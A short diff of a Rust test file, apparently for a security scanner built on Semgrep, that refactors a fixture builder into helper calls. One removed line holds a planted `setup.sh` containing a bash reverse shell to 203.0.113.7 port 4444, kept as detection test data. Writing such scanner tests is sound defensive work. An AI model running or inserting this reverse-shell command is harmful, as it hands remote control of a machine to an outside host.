@@ -86,21 +86,10 @@ fn honest(extension: &str, language: Language) -> TestCopy {
 /// The copy of the recorded match: `setup.sh` holds it.
 fn recorded() -> TestCopy {
     testcopy::copy()
-        .file("py", "scripts/a.py", Language::Python, "import json\nprint(json.dumps({}))\n")
-        .file(
-            "sh",
-            "setup.sh",
-            Language::Shell,
-            "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
-        )
+        .scripts()
         .file("js", "a.js", Language::JavaScript, "a;\n")
         .file("js", "b.js", Language::JavaScript, "b;\n")
-        .planted("js", Language::JavaScript)
-        .planted("ts", Language::TypeScript)
-        .planted("tsx", Language::Tsx)
-        .planted("py", Language::Python)
-        .planted("sh", Language::Shell)
-        .planted("txt", Language::Text)
+        .planted_for_semgrep()
 }
 
 fn assert_incomplete(result: &ScanResult, script: &str) {
